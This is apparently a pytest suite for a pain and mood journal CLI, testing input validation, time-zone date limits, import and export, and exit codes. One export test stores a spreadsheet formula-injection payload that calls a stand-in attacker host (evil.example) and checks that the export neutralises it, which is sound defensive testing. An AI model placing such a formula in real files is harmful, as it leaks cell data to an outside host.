"""Every command-line path, including every error path (exit codes 0 / 1 / 2)."""

import datetime as dt
import json
import os
import shutil
import stat
import subprocess
import sys
import time

import pytest

from journal.cli import main

DAY = "2026-03-01"


@pytest.fixture
def run(capsysbinary, db_path):
    def run(*args, db=db_path):
        code = main(["--db", str(db), *args] if db else list(args))
        out, err = capsysbinary.readouterr()
        return code, out.decode("utf-8"), err.decode("utf-8")
    return run


def _snapshot(path):
    return path.read_bytes() if path.exists() else None


def test_add_then_show_json_returns_exactly_the_values_given(run):
    code, out, _ = run("add", "--date", DAY, "--pain", "6", "--mood", "4", "--sleep", "6:30",
                       "--activity", "walking:30:moderate", "--tag", "flare",
                       "--note", 'bad night, "quoted", 😣')
    assert (code, out) == (0, f"Saved {DAY}.\n")
    code, out, _ = run("show", DAY, "--json")
    day = json.loads(out)
    assert code == 0
    assert {k: day[k] for k in ("date", "pain", "mood", "sleep_hours", "tags", "notes")} == {
        "date": DAY, "pain": 6, "mood": 4, "sleep_hours": 6.5, "tags": ["flare"],
        "notes": 'bad night, "quoted", 😣'}
    assert day["activities"] == [{"kind": "walking", "minutes": 30, "intensity": "moderate"}]
    assert day["activity_minutes"] == 30
    for field in ("worst_pain", "energy", "sleep_quality"):
        assert day[field] is None


def test_add_updates_only_the_fields_given(run):
    run("add", "--date", DAY, "--pain", "6", "--mood", "4")
    run("add", "--date", DAY, "--mood", "7", "--sleep", "7,5")
    day = json.loads(run("show", DAY, "--json")[1])
    assert (day["pain"], day["mood"], day["sleep_hours"]) == (6, 7, 7.5)
    run("add", "--date", DAY, "--pain", "")
    assert json.loads(run("show", DAY, "--json")[1])["pain"] is None


def test_add_defaults_to_today_and_records_no_exercise(run):
    assert run("add", "--activity", "none")[0] == 0
    day = json.loads(run("show", dt.date.today().isoformat(), "--json")[1])
    assert day["activities"] == [] and day["activity_minutes"] == 0


@pytest.mark.parametrize(("args", "field"), [
    (["--pain", "11"], "Pain"),
    (["--sleep", "25"], "Sleep hours"),
    (["--date", "2026-02-30", "--pain", "3"], "Date"),
    (["--activity", "walking:-5"], "Activity minutes"),
    (["--activity", "walking:30:fast"], "Activity intensity"),
    (["--activity", "none", "--activity", "yoga:10"], "Activity"),
    (["--sleep-quality", "0"], "Sleep quality"),
    (["--mood", "four"], "Mood"),
    (["--tag", "a;b"], "Tag"),
    (["--date", "2999-01-01", "--pain", "3"], "Date"),
    (["--pain", "9" * 5000], "Pain"),
    (["--pain", "²"], "Pain"),
    (["--sleep", "9" * 5000 + ":00"], "Sleep hours"),
    (["--activity", "walking:" + "9" * 5000], "Activity minutes"),
    (["--activity", "walking:1440"] * 5, "Activity minutes"),  # 7,200 minutes in one day
    (["--activity", "walking:1"] * 2000, "Activity"),
])
def test_bad_values_exit_2_with_one_line_naming_the_field_and_write_nothing(run, db_path, args,
                                                                            field):
    run("add", "--date", DAY, "--pain", "5")
    before = _snapshot(db_path)
    code, out, err = run("add", "--date", DAY, *args) if "--date" not in args else run("add", *args)
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith(f"Error: {field}: ")
    assert "Traceback" not in err
    assert _snapshot(db_path) == before
    assert json.loads(run("show", DAY, "--json")[1])["pain"] == 5


# 11:00 UTC: already 2026-12-03 in Kiritimati (UTC+14), still 2026-12-01 on Baker Island (UTC-12).
NOW = dt.datetime(2026, 12, 2, 11, 0, tzinfo=dt.UTC)


@pytest.fixture
def in_the_last_time_zone(monkeypatch):
    """The clock at NOW, seen from UTC-12, where the date is two days behind Kiritimati's."""
    monkeypatch.setattr("journal.domain.dates.utc_now", lambda: NOW)
    before = os.environ.get("TZ")
    os.environ["TZ"] = "Etc/GMT+12"
    time.tzset()
    yield
    if before is None:
        del os.environ["TZ"]
    else:
        os.environ["TZ"] = before
    time.tzset()


def test_a_day_begun_in_kiritimati_can_be_edited_from_a_zone_behind(run, in_the_last_time_zone):
    assert run("add", "--pain", "3")[:2] == (0, "Saved 2026-12-01.\n")  # today, here
    assert run("add", "--date", "2026-12-03", "--pain", "6")[:2] == (0, "Saved 2026-12-03.\n")
    code, out, err = run("add", "--date", "2026-12-04", "--pain", "6")
    assert (code, out) == (2, "")
    assert err == ('Error: Date: "2026-12-04" is not accepted; expected 2026-12-03 or an earlier '
                   "date (no later date has begun anywhere on Earth yet). Nothing was written.\n")


@pytest.mark.parametrize(("name", "body", "words"), [
    ("days.csv", "date,pain\n2026-12-03,4\n2026-12-04,5\n", 'line 3: Date: "2026-12-04"'),
    ("days.json", '{"format_version": 1, "days": [\n{"date": "2026-12-03"},\n'
     '{"date": "2100-12-31", "pain": 1}]}', 'line 3: Date: "2100-12-31"'),
], ids=["csv", "json"])
def test_import_refuses_a_day_that_has_not_begun_anywhere(run, in_the_last_time_zone, tmp_path,
                                                          db_path, name, body, words):
    run("add", "--date", DAY, "--pain", "5")
    source = tmp_path / name
    source.write_text(body, encoding="utf-8")
    before = _snapshot(db_path)
    code, out, err = run("import", str(source))
    assert (code, out) == (1, "")
    assert f"{words} is not accepted; expected 2026-12-03 or an earlier date" in err
    assert "Nothing was imported" in err and err.count("\n") == 1
    assert _snapshot(db_path) == before


@pytest.mark.parametrize(("args", "option", "value"), [
    (["report", "--to", "0001-01-01", "-o", "r.pdf"], "--to", "0001-01-01"),
    (["report", "--from", "9999-12-31", "--to", "9999-12-31", "-o", "r.pdf"], "--from",
     "9999-12-31"),
    (["chart", "trends", "--from", "0001-01-01", "-o", "c.png"], "--from", "0001-01-01"),
    (["list", "--from", "1899-12-31"], "--from", "1899-12-31"),
    (["insights", "--to", "2026-12-04"], "--to", "2026-12-04"),
    (["list", "--to", "yesterday"], "--to", "yesterday"),
])
def test_period_options_accept_1900_up_to_the_latest_date_begun(run, in_the_last_time_zone,
                                                                 tmp_path, args, option, value):
    run("add", "--date", DAY, "--pain", "5")
    args = [str(tmp_path / a) if a.endswith((".pdf", ".png")) else a for a in args]
    code, out, err = run(*args)
    assert (code, out) == (2, "")
    assert err.startswith(f"Error: Invalid value for '{option}': \"{value}\" is not accepted; "
                          "expected a date from 1900-01-01 to 2026-12-03, written YYYY-MM-DD.")
    assert err.count("\n") == 1
    assert list(tmp_path.glob("*.p[dn][fg]")) == []


def test_period_options_accept_their_first_and_last_dates(run, in_the_last_time_zone):
    run("add", "--date", DAY, "--pain", "5")
    code, out, _ = run("list", "--from", "1900-01-01", "--to", "2026-12-03", "--json")
    assert code == 0 and [d["date"] for d in json.loads(out)] == [DAY]


def test_add_with_nothing_to_save_is_a_usage_error(run, db_path):
    code, _, err = run("add", "--date", DAY)
    assert code == 2 and "Nothing to save" in err
    assert not db_path.exists()


def test_show_and_delete_of_a_missing_day_exit_1(run):
    run("add", "--date", DAY, "--pain", "5")
    assert run("show", "2026-03-02")[:2] == (1, "")
    code, _, err = run("delete", "2026-03-02")
    assert code == 1 and err == "Error: No entry for 2026-03-02; nothing was deleted.\n"


def test_show_prints_every_field_with_unknowns_named(run):
    run("add", "--date", DAY, "--pain", "0", "--sleep", "7:45", "--interference", "6")
    out = run("show", DAY)[1]
    assert "  Pain               0 / 10\n" in out
    assert "  Pain interference  6 / 10\n" in out
    assert "  Mood               not recorded\n" in out
    assert "  Sleep hours        7 h 45\n" in out
    assert "  Activity           not recorded\n" in out


def test_list_shows_a_range_as_a_table_or_json(run):
    for day, pain in (("2026-03-01", "3"), ("2026-03-02", "4"), ("2026-03-05", "8")):
        run("add", "--date", day, "--pain", pain)
    code, out, _ = run("list", "--from", "2026-03-02", "--to", "2026-03-31")
    lines = out.splitlines()
    assert code == 0 and lines[0].startswith("date") and len(lines) == 3
    assert lines[1].startswith("2026-03-02     4")
    days = json.loads(run("list", "--json")[1])
    assert [d["pain"] for d in days] == [3, 4, 8]
    assert run("list", "--from", "2026-04-01")[1] == "No days logged in this range.\n"


def test_delete_removes_a_day(run):
    run("add", "--date", DAY, "--pain", "5")
    assert run("delete", DAY)[:2] == (0, f"Deleted {DAY}.\n")
    assert run("show", DAY)[0] == 1


def test_reading_a_journal_that_does_not_exist_creates_nothing(run, tmp_path):
    missing = tmp_path / "nowhere" / "journal.db"
    for args in (["show", DAY], ["list"], ["export"], ["delete", DAY]):
        code, _, err = run(*args, db=missing)
        assert code == 1 and "no journal" in err
    assert not missing.parent.exists()


@pytest.mark.parametrize("args", [["show", "01/03/2026"], ["list", "--from", "yesterday"],
                                  ["show"], ["frobnicate"], ["export", "--format", "xml"],
                                  ["demo", "--days", "0"]])
def test_usage_errors_exit_2_with_one_line(run, args):
    code, out, err = run(*args)
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("Error: ")


def test_export_to_stdout_and_to_a_private_file(run, tmp_path):
    run("add", "--date", DAY, "--pain", "5", "--note", "hello, world")
    code, out, _ = run("export")
    assert code == 0 and out.startswith("\ufeffdate,pain,")
    target = tmp_path / "out.json"
    code, _, err = run("export", "--format", "json", "-o", str(target))
    assert code == 0 and "Exported 1 day " in err
    assert json.loads(target.read_text())["days"][0]["notes"] == "hello, world"
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600


def test_exported_csv_shows_formula_like_text_as_text_and_imports_it_back(run, tmp_path):
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    run("add", "--date", DAY, "--pain", "5", "--note", note, "--tag", "-2+3")
    code, out, _ = run("export")
    assert code == 0
    assert out.splitlines()[1].startswith(f"{DAY},5,")
    assert ",'-2+3,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"," in out
    source = tmp_path / "mine.csv"
    source.write_text(out, encoding="utf-8")
    other = tmp_path / "other.db"
    assert run("import", str(source), db=other)[0] == 0
    day = json.loads(run("show", DAY, "--json", db=other)[1])
    assert (day["notes"], day["tags"]) == (note, ["-2+3"])


def test_export_to_an_unwritable_place_exits_1(run, tmp_path):
    run("add", "--date", DAY, "--pain", "5")
    code, _, err = run("export", "-o", str(tmp_path / "no" / "such" / "dir" / "x.csv"))
    assert code == 1 and err.startswith("Error: Cannot write")


def test_import_dry_run_writes_nothing_then_import_writes_all(run, tmp_path, db_path):
    source = tmp_path / "in.csv"
    source.write_text("date,pain,mood\n2026-01-01,5,6\n2026-01-02,6,5\n", encoding="utf-8")
    run("add", "--date", "2026-01-01", "--pain", "5", "--mood", "6")
    before = _snapshot(db_path)
    code, out, _ = run("import", str(source), "--dry-run")
    assert code == 0
    assert out == ("Would add 1 day and replace 0 days; 1 day already the same. "
                   "Nothing was written (dry run).\n")
    assert _snapshot(db_path) == before
    assert run("import", str(source))[1].startswith("Added 1 day and replaced 0 days")
    assert len(json.loads(run("list", "--json")[1])) == 2


def test_import_of_a_bad_file_changes_nothing_and_names_the_line(run, tmp_path, db_path):
    run("add", "--date", DAY, "--pain", "5")
    source = tmp_path / "bad.csv"
    source.write_text("date,pain\n2026-01-01,5\n2026-01-02,5\n2026-01-03,12\n", encoding="utf-8")
    before = _snapshot(db_path)
    code, _, err = run("import", str(source))
    assert code == 1
    assert "line 4" in err and "Pain" in err and "Nothing was imported" in err
    assert err.count("\n") == 1
    assert _snapshot(db_path) == before


@pytest.mark.parametrize(("name", "body", "words"), [
    ("sup.csv", "date,activity_minutes,activities\r\n2024-02-01,²,walking:2\r\n",
     'sup.csv, line 2: Activity minutes: "²" is not accepted; expected'),
    ("big.csv", "date,pain\n2024-02-01," + "9" * 5000 + "\n", "big.csv, line 2: Pain: "),
    ("big.json", '{"format_version": 1, "days": [{"date": "2024-02-01", "pain": ' + "9" * 5000
     + "}]}", 'big.json, line 1: Pain: "999'),
], ids=["sup.csv", "big.csv", "big.json"])
def test_import_of_odd_or_huge_numbers_names_the_line_and_changes_nothing(run, tmp_path, db_path,
                                                                          name, body, words):
    run("add", "--date", DAY, "--pain", "5")
    source = tmp_path / name
    source.write_text(body, encoding="utf-8")
    before = _snapshot(db_path)
    code, out, err = run("import", str(source))
    assert (code, out) == (1, "")
    assert words in err and "Nothing was imported" in err and "Unexpected" not in err
    assert err.count("\n") == 1
    assert _snapshot(db_path) == before


def test_import_of_a_missing_file_exits_1(run, tmp_path):
    code, _, err = run("import", str(tmp_path / "nope.csv"))
    assert code == 1 and "Cannot read" in err


def test_import_detects_json_by_content(run, tmp_path):
    source = tmp_path / "export.txt"
    source.write_text('{"format_version": 1, "days": [{"date": "2026-01-01", "pain": 2}]}')
    assert run("import", str(source))[0] == 0
    assert json.loads(run("show", "2026-01-01", "--json")[1])["pain"] == 2


def test_demo_fills_an_empty_journal_and_refuses_a_used_one(run, db_path):
    code, out, _ = run("demo", "--days", "60", "--seed", "3")
    assert code == 0 and out.startswith("Added ")
    days = json.loads(run("list", "--json")[1])
    assert 40 <= len(days) < 60
    before = _snapshot(db_path)
    code, _, err = run("demo")
    assert code == 1 and "only goes into an empty journal" in err
    assert _snapshot(db_path) == before


def test_db_flag_beats_the_environment_variable(run, tmp_path, monkeypatch):
    env_db = tmp_path / "env.db"
    monkeypatch.setenv("PAIN_JOURNAL_DB", str(env_db))
    run("add", "--date", DAY, "--pain", "1", db=None)
    assert env_db.exists()
    flag_db = tmp_path / "flag.db"
    run("add", "--date", DAY, "--pain", "2", db=flag_db)
    assert json.loads(run("show", DAY, "--json", db=flag_db)[1])["pain"] == 2
    assert json.loads(run("show", DAY, "--json", db=env_db)[1])["pain"] == 1


def test_db_flag_is_also_accepted_after_the_command(run, tmp_path):
    other = tmp_path / "other.db"
    assert run("add", "--db", str(other), "--date", DAY, "--pain", "3", db=None)[0] == 0
    assert json.loads(run("show", DAY, "--json", db=other)[1])["pain"] == 3


def test_without_flag_or_variable_the_journal_goes_to_the_user_data_dir(run, monkeypatch, tmp_path):
    monkeypatch.delenv("PAIN_JOURNAL_DB")
    assert run("add", "--date", DAY, "--pain", "4", db=None)[0] == 0
    assert (tmp_path / "home" / "data" / "pain-journal" / "journal.db").exists()


def test_an_unreadable_journal_exits_1_without_traceback(run, tmp_path):
    bad = tmp_path / "garbage.db"
    bad.write_bytes(b"garbage" * 1000)
    code, _, err = run("list", db=bad)
    assert code == 1 and err.count("\n") == 1 and "not a Pain & Mood Journal file" in err
    assert bad.read_bytes() == b"garbage" * 1000 and "not changed" in err


def test_version_and_help(run):
    code, out, _ = run("--version", db=None)
    assert (code, out.strip()) == (0, "pain-journal 0.1.0")
    out = run("--help", db=None)[1]
    for command in ("add", "show", "list", "delete", "export", "import", "demo"):
        assert f"  {command} " in out


@pytest.mark.parametrize("launcher", ["script", "module"])
def test_the_installed_entry_points_run(tmp_path, launcher):
    db = tmp_path / "j.db"
    if launcher == "script":
        script = shutil.which("pain-journal", path=os.path.dirname(sys.executable))
        assert script, "the pain-journal script is installed beside the interpreter"
        command = [script]
    else:
        command = [sys.executable, "-m", "journal"]
    result = subprocess.run([*command, "--db", str(db), "add", "--date", DAY, "--pain", "11"],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2
    assert result.stderr.startswith("Error: Pain:") and "Traceback" not in result.stderr
    result = subprocess.run([*command, "--db", str(db), "add", "--date", DAY, "--pain", "3"],
                            capture_output=True, text=True, timeout=60)
    assert (result.returncode, result.stdout) == (0, f"Saved {DAY}.\n")
